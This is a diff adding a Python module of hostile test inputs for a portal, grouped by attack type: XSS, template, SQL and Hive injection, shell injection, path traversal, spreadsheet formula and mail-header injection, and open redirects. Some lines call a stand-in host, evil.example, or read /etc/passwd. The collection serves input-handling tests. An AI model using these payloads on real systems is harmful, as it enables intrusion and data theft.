@@ -1,0 +1,217 @@
+"""What would somebody write who wants the portal to do more than show it? Texts, by their attack.
+
+Each corpus maps the attack's name to its text. Signs that look like others are spelled as escapes.
+The letters `lw7` stand in all markup, so that a reader of a page finds what came from here.
+"""
+
+from collections.abc import Mapping
+
+Corpus = Mapping[str, str]
+
+MARKUP: Corpus = {
+    "a script": "<script>alert('lw7')</script>",
+    "the end of a script": "</script><svg/onload=alert('lw7')>",
+    "out of double quotes": "\"><img src=lw7 onerror=alert('lw7')>",
+    "out of single quotes": "' onmouseover='alert(`lw7`)",
+    "out of no quotes": "lw7 onfocus=alert(7) autofocus",
+    "out of back quotes": "`><b lw7=`",
+    "out of a title or text area": "</title></textarea></style><script>lw7</script>",
+    "out of a comment": "--><script>lw7</script><!--",
+    "a CDATA section": "<![CDATA[<b>lw7</b>]]>",
+    "entities": "&lt;b&gt;&#60;b&#62;&amp;&quot;lw7",
+    "a script address": "javascript:alert('lw7')",
+    "a script address with a tab": "java\tscript:alert('lw7')",
+    "a data address": "data:text/html,<script>lw7</script>",
+    "a refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/lw7">',
+    "a base address": '<base href="//evil.example/lw7/">',
+    "a form of theirs": "</form><form action=//evil.example/lw7><button>",
+    "a frame": "<iframe srcdoc='<script>lw7</script>'></iframe>",
+    "an htmx element": '<div hx-get="//evil.example/lw7" hx-trigger="load">',
+    "a style": "<style>*{display:none}/*lw7*/</style>",
+    "a half-open tag": "<img src=lw7 ",
+}
+TEMPLATES: Corpus = {
+    "a template variable": "{{ 7|add:7 }}{{ settings.SECRET_KEY }}",
+    "a template tag": "{% now 'Y' %}{% load lw %}",
+    "the end of autoescape": "{% endautoescape %}{% autoescape off %}<b lw7>",
+    "str.format": "{0.__class__.__mro__}{owner}",
+    "a % format": "%s %d %(message)s %n %",
+    "a shell's braces": "${7*7}#{7*7}",
+}
+SQL: Corpus = {
+    "a quote and a comment": "x' or 1=1 -- ",
+    "a closed bracket": "1'); drop table auth_user; -- ",
+    "double quotes": 'x" or ""="',
+    "a block comment": "/*! union select password from auth_user */",
+    "a backslash at the end": "x\\",
+    "an escaped quote": "x\\' or 1=1 #",
+    "wild cards": "%_[a-z]%",
+    "a statement's end": "x; delete from act_backupbatch",
+    "a NUL": "a\x00b",
+}
+HIVE_SQL: Corpus = {
+    "back quotes": "`sales`.`orders`",
+    "out of back quotes into SQL": "x` purge; drop table `sales`.`orders",
+    "doubled back quotes": "a``b",
+    "a partition's predicate": "dt' or dt<>'",
+    "a variable": "${hiveconf:x} ${env:HOME} ${system:user.name}",
+    "a Java escape": "\\u0027 or \\u0027",
+    "properties": "x' TBLPROPERTIES('TTL'='1",
+}
+SHELL: Corpus = {
+    "an option": "--conf",
+    "an option with a value": "--conf=spark.driver.extraJavaOptions=-javaagent:/tmp/x.jar",
+    "an option of Python": "-c",
+    "the end of options": "--",
+    "a command": "$(touch /tmp/lw7)",
+    "back quotes of a shell": "`touch /tmp/lw7`",
+    "a second command": "x; touch /tmp/lw7 && true | cat > /dev/null",
+    "a second line": "x\ntouch /tmp/lw7",
+    "quotes of a shell": "x' \"$HOME\" '",
+    "a wild card and a home": "* ~ ? [a]",
+    "an @ file": "@/etc/passwd",
+}
+PATHS: Corpus = {
+    "up": "../../etc/passwd",
+    "only dots": "..",
+    "up, escaped": "%2e%2e%2fetc",
+    "up, escaped twice": "%252e%252e%252f",
+    "up, overlong": "%c0%ae%c0%ae%c0%af",
+    "up, by backslash": "..\\..\\etc",
+    "an absolute path": "/etc/passwd",
+    "two slashes": "//evil.example/share",
+    "a file address": "file:///etc/passwd",
+    "dots at the end": "name...",
+    "a dot": ".",
+    "a home": "~root/.ssh",
+    "a hidden staging directory": ".hive-staging_hive_1",
+    "a journal's file": "intent.1.json",
+    "an item's directory": "b0000001-i001",
+    "a fence's segment": "/sealed/x/open/",
+}
+SIGNS: Corpus = {
+    "a right-to-left override": "gpj\u202eexe.lw7",
+    "isolates": "a\u2066b\u2069c",
+    "zero width": "or\u200bders\ufeff",
+    "a line separator": "a\u2028b\u2029c",
+    "a next line": "a\x85b",
+    "control signs": "a\x01\x08\x1b[31mred\x7fb",
+    "a bell and a form feed": "a\x07b\x0cc",
+    "Cyrillic look-alikes": "s\u0430les.\u043erders",
+    "full width": "\uff1cscript\uff1e\uff02\uff07",
+    "a decomposed letter": "e\u0301te\u0301",
+    "the composed letter": "\xe9t\xe9",
+    "a ligature": "\ufb01le",
+    "a dotted I": "\u0130\u0131I",
+    "emoji": "\U0001f600\U0001f468\u200d\U0001f469",
+    "letters beyond the first plane": "\U0001d516\U0001d52d",
+    "a private sign": "\ue000\uf8ff",
+    "no character": "\uffff\ufffd",
+    "Arabic and Hebrew": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
+}
+HIVE_NAMES: Corpus = {
+    "a slash, escaped": "a%2Fb=%3D",
+    "an escape of an escape": "%252F%25",
+    "half an escape": "100%",
+    "a broken escape": "%G1%1",
+    "the NULL partition": "__HIVE_DEFAULT_PARTITION__x",
+    "the NULL partition, escaped": "__HIVE_DEFAULT%5FPARTITION__",
+    "another key": "1/hour=2",
+    "equals signs": "=a==b=",
+    "colons and a stamp": "2026-11-21 03:00:00.0",
+    "spaces around": "  both sides  ",
+    "a space at the end": "end ",
+    "the same without": "end",
+    "another case": "END",
+    "a tab at the end": "end\t",
+    "brackets and carets": "{a}[b]^c",
+    "only a space": " ",
+    "a number": "-1.5e3",
+}
+FORMULAS: Corpus = {
+    "an equals sign": "=cmd|' /C calc'!A0",
+    "a plus": "+1+cmd|' /C calc'!A0",
+    "a minus": "-1+cmd|' /C calc'!A0",
+    "an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a tab before it": "\t=1+1",
+    "a carriage return before it": "\r=1+1",
+    "a line feed before it": "\n=1+1",
+    "a space before it": " =1+1",
+    "a hard space before it": "\xa0=1+1",
+    "a byte order mark before it": "\ufeff=1+1",
+    "a full-width equals sign": "\uff1d1+1",
+    "a full-width plus": "\uff0b1+1",
+    "a full-width minus": "\uff0d1+1",
+    "a full-width at sign": "\uff20SUM(1)",
+    "a web link": '=HYPERLINK("http://evil.example/?"&A1,"lw7")',
+    "quotes and a new row": 'x","=1+1"\r\n=1+1,"',
+    "an old DDE": "|cmd'!A0",
+}
+MAIL_HEADERS: Corpus = {
+    "a Bcc by CR LF": "x\r\nBcc: eve@evil.example",
+    "a Bcc by LF": "x\nBcc: eve@evil.example",
+    "a Bcc by CR": "x\rBcc: eve@evil.example",
+    "a folded header": "x\r\n Bcc: eve@evil.example",
+    "a body": "x\r\n\r\nYour data is safe, click http://evil.example/lw7",
+    "an encoded line break": "=?utf-8?q?x=0D=0ABcc:_eve@evil.example?=",
+    "an encoded word": "=?utf-8?b?PHNjcmlwdD4=?=",
+    "a boundary": "--===============lw7==",
+    "the end of a mail": "x\r\n.\r\nMAIL FROM:<eve@evil.example>",
+    "a very long line": "lw7 " * 500,
+}
+LINES: Corpus = {
+    "a log line of theirs": "x\n2026-11-22 10:00:00,000 INFO lakewarden plan.approved by ada",
+    "the end of a JSON text": 'x","actor":"ada","x":"',
+    "the end of a JSON object": '"}]}\n{"run":"other"}',
+    "a JSON escape": "\\u0022\\n\\/",
+    "a calendar line of theirs": "x\r\nEND:VEVENT\r\nBEGIN:VALARM",
+    "separators of a calendar": "a;b,c\\n:d\\",
+    "a chat's mention": "<!channel> <http://evil.example|here> @here",
+}
+LONG: Corpus = {
+    "a long word": "lw7" + "x" * 600,
+    "long beyond ASCII": "\xfc" * 300,
+    "many segments": "a/" * 200,
+}
+# Whatever a table's maker may put into an owner, a place or a partition's value.
+TEXTS: Corpus = {
+    **MARKUP, **TEMPLATES, **SQL, **HIVE_SQL, **SHELL, **PATHS, **SIGNS, **HIVE_NAMES, **FORMULAS,
+    **MAIL_HEADERS, **LINES, **LONG,
+}  # fmt: skip
+
+MAIL_ADDRESSES: Corpus = {
+    "none": "",
+    "no address": "olga",
+    "two": "olga@example.org, eve@evil.example",
+    "two, by a semicolon": "olga@example.org;eve@evil.example",
+    "a name and an address": "Olga <olga@example.org>",
+    "a name that looks like one": '"ada@example.org" <eve@evil.example>',
+    "a Bcc by CR LF": "olga@example.org\r\nBcc: eve@evil.example",
+    "a Bcc by LF": "olga@example.org\nBcc: eve@evil.example",
+    "a line break at the end": "olga@example.org\n",
+    "an option of sendmail": "-oQ/tmp@example.org -X/tmp/x",
+    "a NUL": "olga\x00@example.org",
+    "two at signs": "olga@evil.example@example.org",
+    "an SMTP command": "olga@example.org> RCPT TO:<eve@evil.example",
+    "a group": "undisclosed: eve@evil.example;",
+    "too long": "o" * 250 + "@example.org",
+    "no dots": "olga@localhost",
+}
+AWAY: Corpus = {
+    "another site": "https://evil.example/",
+    "no scheme": "//evil.example",
+    "three slashes": "///evil.example",
+    "backslashes": "\\\\evil.example",
+    "a slash and a backslash": "/\\evil.example",
+    "a scheme without slashes": "https:evil.example",
+    "a scheme with three": "https:///evil.example",
+    "a script": "javascript:alert(1)",
+    "a data address": "data:text/html,x",
+    "a tab within": "/\t/evil.example",
+    "a line break within": "/\r\n/evil.example",
+    "a control sign before": "\x08//evil.example",
+    "a user before the host": "https://testserver@evil.example/",
+    "the site's name before theirs": "https://testserver.evil.example/",
+    "a broken address": "http://[::1",
+    "full-width slashes": "/\uff0fevil.example",
+}
